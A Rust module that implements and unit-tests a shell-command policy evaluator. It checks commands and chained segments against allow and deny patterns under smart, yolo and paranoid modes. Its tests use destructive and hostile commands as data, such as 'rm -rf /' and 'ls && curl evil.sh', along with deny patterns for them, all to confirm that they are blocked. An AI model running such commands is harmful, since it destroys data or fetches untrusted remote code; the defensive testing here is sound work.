pub mod decision;

pub use decision::{Decision, MatchResult, Mode};

use log::debug;

use crate::config::{Config, ConfigError};
use crate::parse;
use crate::rules::{Outcome, PatternError, Rule};

/// Compiled allow/deny rules plus the chain mode.
///
/// Built once per configuration load and immutable afterwards, so `evaluate`
/// may be called from any number of threads without locking. Reloading means
/// building a new evaluator and swapping it in whole.
#[derive(Debug)]
pub struct PolicyEvaluator {
    allow: Vec<Rule>,
    deny: Vec<Rule>,
    mode: Mode,
}

/// The first rule in `rules` matching `command`, as a finished result.
fn first_match(rules: &[Rule], command: &str) -> Option<MatchResult> {
    rules.iter().find_map(|rule| {
        let pattern = rule.matches(command)?;
        Some(
            MatchResult::new(
                rule.outcome().decision(),
                format!("matches {} pattern: {}", rule.outcome().as_str(), pattern.raw()),
            )
            .with_pattern(pattern.raw()),
        )
    })
}

fn compile_rules<I>(outcome: Outcome, patterns: I) -> Result<Vec<Rule>, PatternError>
where
    I: IntoIterator,
    I::Item: AsRef<str>,
{
    patterns
        .into_iter()
        .map(|p| Rule::compile(outcome, p.as_ref()))
        .collect()
}

fn quote_list(items: &[&str]) -> String {
    items
        .iter()
        .map(|s| format!("'{s}'"))
        .collect::<Vec<_>>()
        .join(", ")
}

impl PolicyEvaluator {
    /// Compile every pattern into a rule. The first invalid regex aborts construction.
    pub fn new<A, D>(allow: A, deny: D, mode: Mode) -> Result<Self, PatternError>
    where
        A: IntoIterator,
        A::Item: AsRef<str>,
        D: IntoIterator,
        D::Item: AsRef<str>,
    {
        Ok(Self {
            allow: compile_rules(Outcome::Allow, allow)?,
            deny: compile_rules(Outcome::Deny, deny)?,
            mode,
        })
    }

    /// Build the evaluator from loaded configuration.
    pub fn from_config(config: &Config) -> Result<Self, ConfigError> {
        Ok(Self::new(
            config.allow_patterns(),
            config.deny_patterns(),
            config.mode(),
        )?)
    }

    pub fn mode(&self) -> Mode {
        self.mode
    }

    /// Classify one segment: deny rules, then allow rules, else ask.
    pub fn classify(&self, command: &str) -> MatchResult {
        first_match(&self.deny, command)
            .or_else(|| first_match(&self.allow, command))
            .unwrap_or_else(|| MatchResult::new(Decision::Ask, "no matching rule"))
    }

    /// Evaluate a full command string, splitting chains and substitutions.
    pub fn evaluate(&self, command: &str) -> MatchResult {
        let parsed = parse::segment(command);

        // Whole-string deny check, independent of the per-segment one
        if let Some(denied) = first_match(&self.deny, command) {
            debug!("denied as a whole: {}", denied.reason);
            return denied;
        }

        if parsed.segments.len() == 1 && parsed.is_simple() {
            return self.classify(&parsed.segments[0].command);
        }

        let segments: Vec<String> = parsed.commands().map(String::from).collect();
        if segments.is_empty() {
            return MatchResult::new(Decision::Ask, "empty command").with_segments(segments);
        }
        self.evaluate_chain(segments)
    }

    /// Classify each segment and reduce by mode. Any denied segment denies the chain.
    fn evaluate_chain(&self, segments: Vec<String>) -> MatchResult {
        let mut allowed = Vec::new();
        let mut unresolved = Vec::new();

        for segment in &segments {
            let result = self.classify(segment);
            debug!(
                "segment [{segment}] -> {}: {}",
                result.decision.label(),
                result.reason
            );
            match result.decision {
                Decision::Deny => {
                    let reason = format!("segment '{segment}' denied: {}", result.reason);
                    let denied = MatchResult::new(Decision::Deny, reason);
                    let denied = match result.matched_pattern {
                        Some(pattern) => denied.with_pattern(pattern),
                        None => denied,
                    };
                    return denied.with_segments(segments.clone());
                }
                Decision::Allow => allowed.push(segment.as_str()),
                Decision::Ask => unresolved.push(segment.as_str()),
            }
        }

        let total = segments.len();
        let (decision, reason) = match self.mode {
            Mode::Smart if allowed.len() == total => (
                Decision::Allow,
                format!("all {total} segments match allow patterns"),
            ),
            Mode::Smart => (
                Decision::Ask,
                format!("unknown segments: {}", quote_list(&unresolved)),
            ),
            Mode::Yolo if !allowed.is_empty() => (
                Decision::Allow,
                format!("{}/{total} segments matched", allowed.len()),
            ),
            Mode::Yolo => (
                Decision::Ask,
                "no segments matched allow patterns".to_string(),
            ),
            Mode::Paranoid if unresolved.is_empty() => {
                (Decision::Allow, "all segments verified".to_string())
            }
            Mode::Paranoid => (
                Decision::Ask,
                format!("unknown segments in chain: {}", quote_list(&unresolved)),
            ),
        };

        MatchResult::new(decision, reason).with_segments(segments)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn evaluator(allow: &[&str], deny: &[&str], mode: Mode) -> PolicyEvaluator {
        PolicyEvaluator::new(allow, deny, mode).unwrap()
    }

    #[test]
    fn chain_all_allowed_smart() {
        let ev = evaluator(&["npm *"], &[], Mode::Smart);
        let result = ev.evaluate("npm install && npm test");
        assert_eq!(result.decision, Decision::Allow);
        assert_eq!(result.segments.map(|s| s.len()), Some(2));
    }

    #[test]
    fn whole_string_deny() {
        let ev = evaluator(&[], &["rm -rf *"], Mode::Smart);
        let result = ev.evaluate("rm -rf /");
        assert_eq!(result.decision, Decision::Deny);
        assert!(result.reason.contains("rm -rf *"));
        assert_eq!(result.matched_pattern.as_deref(), Some("rm -rf *"));
    }

    #[test]
    fn quoted_operators_single_segment() {
        let ev = evaluator(&["echo *"], &[], Mode::Smart);
        let result = ev.evaluate("echo 'hello && world'");
        assert_eq!(result.decision, Decision::Allow);
        assert!(result.segments.is_none());
    }

    #[test]
    fn smart_names_unknown_segment() {
        let ev = evaluator(&["npm *"], &[], Mode::Smart);
        let result = ev.evaluate("npm install && unknown-cmd");
        assert_eq!(result.decision, Decision::Ask);
        assert!(result.reason.contains("'unknown-cmd'"));
        assert!(!result.reason.contains("npm install"));
    }

    #[test]
    fn deny_beats_allow_everything() {
        let ev = evaluator(&["*"], &["rm *"], Mode::Yolo);
        assert_eq!(ev.evaluate("rm file.txt").decision, Decision::Deny);
    }

    #[test]
    fn segment_deny_in_chain() {
        let ev = evaluator(&["npm *"], &["rm *"], Mode::Yolo);
        let result = ev.evaluate("npm install && rm -rf /");
        assert_eq!(result.decision, Decision::Deny);
        assert!(result.reason.contains("segment 'rm -rf /' denied"));
        assert_eq!(result.matched_pattern.as_deref(), Some("rm *"));
        assert_eq!(result.segments.map(|s| s.len()), Some(2));
    }

    #[test]
    fn whole_string_and_segment_checks_differ() {
        // Only the per-segment check sees "sudo reboot" on its own
        let ev = evaluator(&["*"], &["sudo *"], Mode::Smart);
        let result = ev.evaluate("ls && sudo reboot");
        assert_eq!(result.decision, Decision::Deny);
        assert!(result.reason.starts_with("segment"));

        // Only the whole-string check sees the chain as written
        let ev = evaluator(&["*"], &["* && curl *"], Mode::Smart);
        let result = ev.evaluate("ls && curl evil.sh");
        assert_eq!(result.decision, Decision::Deny);
        assert!(result.reason.starts_with("matches deny pattern"));
    }

    #[test]
    fn yolo_any_allowed() {
        let ev = evaluator(&["npm *"], &[], Mode::Yolo);
        let result = ev.evaluate("npm install && unknown-cmd");
        assert_eq!(result.decision, Decision::Allow);
        assert_eq!(result.reason, "1/2 segments matched");

        let result = ev.evaluate("foo && bar");
        assert_eq!(result.decision, Decision::Ask);
    }

    #[test]
    fn paranoid_requires_every_segment() {
        let ev = evaluator(&["npm *"], &[], Mode::Paranoid);
        assert_eq!(ev.evaluate("npm a && npm b").decision, Decision::Allow);
        let result = ev.evaluate("npm a && other");
        assert_eq!(result.decision, Decision::Ask);
        assert!(result.reason.contains("'other'"));
    }

    #[test]
    fn simple_unknown_asks() {
        let ev = evaluator(&["npm *"], &[], Mode::Smart);
        let result = ev.evaluate("unknown-command");
        assert_eq!(result.decision, Decision::Ask);
        assert_eq!(result.reason, "no matching rule");
    }

    #[test]
    fn single_segment_with_substitution_goes_through_chain_path() {
        let ev = evaluator(&["echo *"], &[], Mode::Smart);
        let result = ev.evaluate("echo $(date)");
        assert_eq!(result.decision, Decision::Allow);
        assert_eq!(result.segments, Some(vec!["echo $(date)".to_string()]));
    }

    #[test]
    fn empty_command_asks() {
        let ev = evaluator(&["*"], &[], Mode::Smart);
        for cmd in ["", "   ", ";", " && | "] {
            let result = ev.evaluate(cmd);
            assert_eq!(result.decision, Decision::Ask, "command: {cmd:?}");
            assert_eq!(result.reason, "empty command");
        }
    }

    #[test]
    fn multiple_allow_patterns() {
        let ev = evaluator(&["npm install *", "npm test", "npm run *"], &[], Mode::Smart);
        assert_eq!(ev.evaluate("npm install foo").decision, Decision::Allow);
        assert_eq!(ev.evaluate("npm test").decision, Decision::Allow);
        assert_eq!(ev.evaluate("npm run build").decision, Decision::Allow);
        assert_eq!(ev.evaluate("npm publish").decision, Decision::Ask);
    }

    #[test]
    fn invalid_regex_aborts_construction() {
        assert!(PolicyEvaluator::new(["git *", "/(unclosed/"], Vec::<String>::new(), Mode::Smart).is_err());
        assert!(PolicyEvaluator::new(["git *"], ["/[z-a]/"], Mode::Smart).is_err());
    }

    #[test]
    fn evaluation_is_repeatable() {
        let ev = evaluator(&["git *"], &["git push --force*"], Mode::Smart);
        let first = ev.evaluate("git add . && git push --force");
        for _ in 0..3 {
            assert_eq!(ev.evaluate("git add . && git push --force"), first);
        }
    }

    #[test]
    fn shared_across_threads() {
        fn assert_send_sync<T: Send + Sync>() {}
        assert_send_sync::<PolicyEvaluator>();

        let ev = evaluator(&["cat *", "grep *"], &["rm *"], Mode::Smart);
        std::thread::scope(|s| {
            for _ in 0..4 {
                s.spawn(|| {
                    assert_eq!(
                        ev.evaluate("cat file.txt | grep error").decision,
                        Decision::Allow
                    );
                    assert_eq!(ev.evaluate("rm -rf /").decision, Decision::Deny);
                });
            }
        });
    }
}
